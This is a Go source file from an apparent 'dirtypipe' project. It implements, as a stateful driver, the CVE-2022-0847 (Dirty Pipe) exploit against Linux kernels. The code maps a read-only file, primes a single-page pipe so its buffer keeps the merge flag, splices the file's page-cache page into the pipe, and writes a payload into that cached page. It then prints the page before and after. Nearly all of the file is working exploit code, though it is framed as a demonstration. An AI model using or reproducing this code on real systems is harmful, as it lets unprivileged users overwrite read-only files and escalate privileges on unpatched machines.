// Copyright 2026 The dirtypipe Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package exploit demonstrates CVE-2022-0847 ("Dirty Pipe").
//
// On affected kernels (5.8 up to 5.16.11, 5.15.25 and 5.10.102), splicing a
// file into a pipe reuses a pipe_buffer without clearing its flags. If the
// slot previously held an anonymous page written with write(2), it still
// carries PIPE_BUF_FLAG_CAN_MERGE, and the next write(2) to the pipe is
// appended directly into the file's page-cache page. The file only needs to
// be readable.
//
// The Driver runs the sequence one step at a time:
//
//	Init -> TargetMapped -> PipeCreated -> PipeSaturated -> PipeDrained
//	     -> Spliced -> Corrupted -> Done
//
// Every step must succeed exactly; the first failure is terminal and carries
// the process exit code (see ExitCode).
package exploit

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"time"

	"github.com/dirtypipe/dirtypipe/pkg/cleanup"
	"github.com/dirtypipe/dirtypipe/pkg/log"
)

// Options configures a Driver.
type Options struct {
	// Out receives the before and after dumps. Defaults to os.Stdout.
	Out io.Writer

	// Checkpoint is invoked at every Stage. Defaults to NopCheckpoint.
	Checkpoint Checkpoint
}

// Driver runs the demonstration against a Host. It is not safe for
// concurrent use.
type Driver struct {
	host       Host
	out        io.Writer
	checkpoint Checkpoint

	// progress logs per-chunk activity without flooding the log.
	progress log.Logger

	state State

	// err is the first failure. Once set, every operation returns it.
	err error

	targetFD int
	mapping  Mapping
	readFD   int
	writeFD  int
}

// New returns a Driver in state Init.
func New(host Host, opts Options) *Driver {
	if opts.Out == nil {
		opts.Out = os.Stdout
	}
	if opts.Checkpoint == nil {
		opts.Checkpoint = NopCheckpoint
	}
	return &Driver{
		host:       host,
		out:        opts.Out,
		checkpoint: opts.Checkpoint,
		progress:   log.BasicRateLimitedLogger(time.Second),
		targetFD:   -1,
		readFD:     -1,
		writeFD:    -1,
	}
}

// State returns the current state.
func (d *Driver) State() State {
	return d.state
}

// Err returns the failure that stopped the driver, if any.
func (d *Driver) Err() error {
	return d.err
}

// Mapping returns the target mapping, or nil before PrepareTarget.
func (d *Driver) Mapping() Mapping {
	return d.mapping
}

// PipeFDs returns the read and write ends of the pipe, or -1 before
// CreateAndShrinkPipe.
func (d *Driver) PipeFDs() (r, w int) {
	return d.readFD, d.writeFD
}

// Run executes the whole demonstration on TargetPath.
func (d *Driver) Run(ctx context.Context) error {
	if err := d.PrepareTarget(ctx, TargetPath); err != nil {
		return err
	}
	if err := d.CreateAndShrinkPipe(ctx); err != nil {
		return err
	}
	if err := d.SaturateAndDrain(ctx); err != nil {
		return err
	}
	if err := d.SpliceIntoPipe(ctx, SpliceLength); err != nil {
		return err
	}
	if err := d.DumpMapping("Page cache before writing"); err != nil {
		return err
	}
	if err := d.CorruptingWrite(ctx, []byte(Payload)); err != nil {
		return err
	}
	if err := d.DumpMapping("Page cache after writing"); err != nil {
		return err
	}
	d.state = Done
	log.Infof("Demonstration complete")
	return nil
}

// begin checks that op may run in the current state.
func (d *Driver) begin(ctx context.Context, op string, want State) error {
	if d.err != nil {
		return d.err
	}
	if d.state != want {
		return d.fail(op, CodeIO, fmt.Errorf("%w: %s requires state %s", ErrOutOfOrder, op, want))
	}
	if err := ctx.Err(); err != nil {
		return d.fail(op, CodeIO, err)
	}
	return nil
}

// fail records the first failure and returns it.
func (d *Driver) fail(op string, code int, err error) error {
	e := &Error{Op: op, State: d.state, Code: code, Err: err}
	if d.err == nil {
		d.err = e
	}
	log.Warningf("%v", e)
	return e
}

func (d *Driver) pause(ctx context.Context, op string, stage Stage) error {
	log.Debugf("Checkpoint: %s", stage)
	if err := d.checkpoint(ctx, stage); err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("checkpoint %q: %w", stage, err))
	}
	return nil
}

// PrepareTarget opens path read-only and maps its first page at
// MappingAddress. The mapping is a live view of the page cache.
func (d *Driver) PrepareTarget(ctx context.Context, path string) error {
	const op = "prepareTarget"
	if err := d.begin(ctx, op, Init); err != nil {
		return err
	}

	if ps := d.host.PageSize(); ps != PageSize {
		return d.fail(op, CodeMapping, fmt.Errorf("%w: host uses %d, need %d", ErrPageSize, ps, PageSize))
	}

	fd, err := d.host.OpenReadOnly(path)
	if err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("opening %q: %w", path, err))
	}
	cu := cleanup.Make(func() { _ = d.host.Close(fd) })
	defer cu.Clean()

	size, err := d.host.FileSize(fd)
	if err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("stat %q: %w", path, err))
	}
	if size < SpliceLength {
		return d.fail(op, CodeIO, fmt.Errorf("%w: %q has %d bytes", ErrTargetTooShort, path, size))
	}
	if size < PageSize {
		log.Debugf("Target %q is %d bytes, the rest of the page reads as zeroes", path, size)
	}

	m, err := d.host.MapShared(fd, MappingAddress, PageSize)
	if err != nil {
		return d.fail(op, CodeMapping, fmt.Errorf("mapping %q: %w", path, err))
	}
	cu.Add(func() {
		if err := m.Release(); err != nil {
			log.Warningf("Releasing mapping at %#x: %v", m.Addr(), err)
		}
	})
	if m.Addr() != MappingAddress {
		return d.fail(op, CodeMapping, fmt.Errorf("%w: got %#x, want %#x", ErrMappingPlacement, m.Addr(), MappingAddress))
	}

	cu.Release()
	d.targetFD = fd
	d.mapping = m
	d.state = TargetMapped
	log.Infof("Mapped %q (fd %d, %d bytes) at %#x", path, fd, size, m.Addr())
	return nil
}

// CreateAndShrinkPipe creates the pipe and resizes its ring to a single page.
func (d *Driver) CreateAndShrinkPipe(ctx context.Context) error {
	const op = "createAndShrinkPipe"
	if err := d.begin(ctx, op, TargetMapped); err != nil {
		return err
	}
	if err := d.pause(ctx, op, BeforePipeCreate); err != nil {
		return err
	}

	r, w, err := d.host.Pipe()
	if err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("pipe: %w", err))
	}
	d.readFD, d.writeFD = r, w
	d.state = PipeCreated

	got, err := d.host.SetPipeSize(w, PipeCapacity)
	if err != nil {
		return d.fail(op, CodePipeSize, fmt.Errorf("%w: F_SETPIPE_SZ: %v", ErrPipeSize, err))
	}
	if got != PipeCapacity {
		return d.fail(op, CodePipeSize, fmt.Errorf("%w: got %d, want %d", ErrPipeSize, got, PipeCapacity))
	}
	log.Infof("Created pipe [%d, %d] with capacity %d", r, w, got)
	return nil
}

// SaturateAndDrain fills the pipe with ChunkSize writes so its buffer is
// flagged mergeable, then reads everything back. The emptied slot keeps the
// flag on affected kernels.
func (d *Driver) SaturateAndDrain(ctx context.Context) error {
	const op = "saturateAndDrain"
	if err := d.begin(ctx, op, PipeCreated); err != nil {
		return err
	}

	for i := 1; i <= chunks; i++ {
		switch i {
		case 1:
			if err := d.pause(ctx, op, BeforeFirstWrite); err != nil {
				return err
			}
		case chunks:
			if err := d.pause(ctx, op, BeforeLastWrite); err != nil {
				return err
			}
		}
		n, err := d.host.Write(d.writeFD, fillChunk)
		if err != nil {
			return d.fail(op, CodeIO, fmt.Errorf("fill write %d: %w", i, err))
		}
		if n != ChunkSize {
			return d.fail(op, CodeIO, shortTransfer(fmt.Sprintf("fill write %d", i), n, ChunkSize))
		}
		d.progress.Debugf("Fill write %d/%d", i, chunks)
	}
	d.state = PipeSaturated
	log.Debugf("Pipe saturated with %d writes", chunks)

	buf := make([]byte, ChunkSize)
	for i := 1; i <= chunks; i++ {
		if i == chunks {
			if err := d.pause(ctx, op, BeforeLastRead); err != nil {
				return err
			}
		}
		n, err := d.host.Read(d.readFD, buf)
		if err != nil {
			return d.fail(op, CodeIO, fmt.Errorf("drain read %d: %w", i, err))
		}
		if n != ChunkSize {
			return d.fail(op, CodeIO, shortTransfer(fmt.Sprintf("drain read %d", i), n, ChunkSize))
		}
		d.progress.Debugf("Drain read %d/%d", i, chunks)
	}
	d.state = PipeDrained
	log.Infof("Pipe saturated and drained (%d chunks of %d bytes)", chunks, ChunkSize)
	return nil
}

// SpliceIntoPipe splices length bytes from the start of the target into the
// pipe. The pipe now references the target's page-cache page.
func (d *Driver) SpliceIntoPipe(ctx context.Context, length int) error {
	const op = "spliceIntoPipe"
	if err := d.begin(ctx, op, PipeDrained); err != nil {
		return err
	}
	if err := d.pause(ctx, op, BeforeSplice); err != nil {
		return err
	}

	var off int64
	n, err := d.host.Splice(d.targetFD, &off, d.writeFD, length)
	if err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("splice: %w", err))
	}
	if n != length {
		return d.fail(op, CodeIO, shortTransfer("splice", n, length))
	}
	d.state = Spliced
	log.Infof("Spliced %d bytes of the target into the pipe", n)
	return nil
}

// CorruptingWrite writes payload to the pipe. On affected kernels it is
// appended to the spliced page-cache page right after the spliced range.
//
// It is allowed once per splice; a second call fails with ErrOutOfOrder
// without writing anything.
func (d *Driver) CorruptingWrite(ctx context.Context, payload []byte) error {
	const op = "corruptingWrite"
	if err := d.begin(ctx, op, Spliced); err != nil {
		return err
	}
	if room := PipeCapacity - SpliceLength; len(payload) > room {
		return d.fail(op, CodeIO, fmt.Errorf("%w: %d bytes, room for %d", ErrPayloadTooLarge, len(payload), room))
	}
	if err := d.pause(ctx, op, BeforeCorruptingWrite); err != nil {
		return err
	}

	// Fixed kernels put the payload in a new slot, and the single-slot pipe
	// is full. Fail instead of sleeping forever.
	if err := d.host.SetNonblock(d.writeFD, true); err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("setting O_NONBLOCK: %w", err))
	}

	n, err := d.host.Write(d.writeFD, payload)
	if err != nil {
		return d.fail(op, CodeIO, fmt.Errorf("write: %w", err))
	}
	if n != len(payload) {
		return d.fail(op, CodeIO, shortTransfer("payload write", n, len(payload)))
	}
	d.state = Corrupted
	log.Infof("Wrote %d byte payload into the pipe", n)
	return nil
}

// DumpMapping prints the mapped page up to its first NUL byte, prefixed with
// label.
func (d *Driver) DumpMapping(label string) error {
	if d.mapping == nil {
		return &Error{Op: "dumpMapping", State: d.state, Code: CodeIO, Err: fmt.Errorf("%w: target not mapped", ErrOutOfOrder)}
	}
	s := MappingString(d.mapping)
	if len(s) == 0 || s[len(s)-1] != '\n' {
		s += "\n"
	}
	if _, err := fmt.Fprintf(d.out, "%s: %s", label, s); err != nil {
		return &Error{Op: "dumpMapping", State: d.state, Code: CodeIO, Err: err}
	}
	return nil
}

// MappingString returns the contents of m up to the first NUL byte.
func MappingString(m Mapping) string {
	b := m.Bytes()
	if i := bytes.IndexByte(b, 0); i >= 0 {
		b = b[:i]
	}
	return string(b)
}

// Close releases the mapping and closes every descriptor. The page-cache
// contents are left as they are.
func (d *Driver) Close() error {
	var firstErr error
	record := func(err error) {
		if err != nil && firstErr == nil {
			firstErr = err
		}
	}
	if d.mapping != nil {
		record(d.mapping.Release())
		d.mapping = nil
	}
	for _, fd := range []*int{&d.writeFD, &d.readFD, &d.targetFD} {
		if *fd >= 0 {
			record(d.host.Close(*fd))
			*fd = -1
		}
	}
	return firstErr
}
